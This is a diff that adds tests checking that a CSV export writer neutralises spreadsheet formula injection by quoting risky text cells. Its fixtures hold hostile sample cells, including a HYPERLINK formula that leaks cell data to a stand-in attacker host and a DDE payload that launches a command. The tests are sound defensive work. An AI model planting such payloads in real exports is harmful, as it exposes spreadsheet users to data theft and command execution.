@@ -7,6 +7,8 @@ import io
 
 import orjson
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from engine._export import ResultWriter, csv_columns, json_row
 from engine._preview import preview_input
@@ -86,3 +88,43 @@ def test_preview_keeps_first_items_and_counts_everything(tmp_path) -> None:
     assert [i.id for i in preview.items] == ["a"] and preview.fields == ("id", "context")
     assert preview.valid_count == 2 and preview.invalid_count == 1
     assert preview.invalid[0].line == 2 and preview.format == "jsonl"
+
+
+def _csv_rows(written: ItemResult, **options: bool) -> list[dict[str, str]]:
+    buffer = io.StringIO()
+    ResultWriter(buffer, "csv", **options).write(written)
+    return list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))
+
+
+FORMULAS = {
+    "context": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "plus": "+cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+def test_csv_text_cells_a_spreadsheet_would_run_get_a_leading_quote() -> None:
+    hostile = result(
+        fields={"id": "t1", **FORMULAS},
+        output="=1+1",
+        parsed={"category": "-bug", "score": -3},
+        cost_usd=-0.25,
+    )
+    [row] = _csv_rows(hostile)
+    assert {name: row[name] for name in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+    assert row["output"] == "'=1+1" and row["parsed.category"] == "'-bug"
+    assert row["parsed.score"] == "-3" and row["cost_usd"] == "-0.25"  # numbers stay numbers
+    [raw] = _csv_rows(hostile, raw_cells=True)
+    assert {name: raw[name] for name in FORMULAS} == FORMULAS and raw["output"] == "=1+1"
+
+
+@given(st.text())
+def test_a_csv_text_cell_reads_back_as_written_or_quoted_when_it_starts_a_formula(
+    text: str,
+) -> None:
+    [row] = _csv_rows(result(fields={"id": "t1", "context": text}, parsed=None))
+    dangerous = text.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert row["context"] == ("'" + text if dangerous else text)
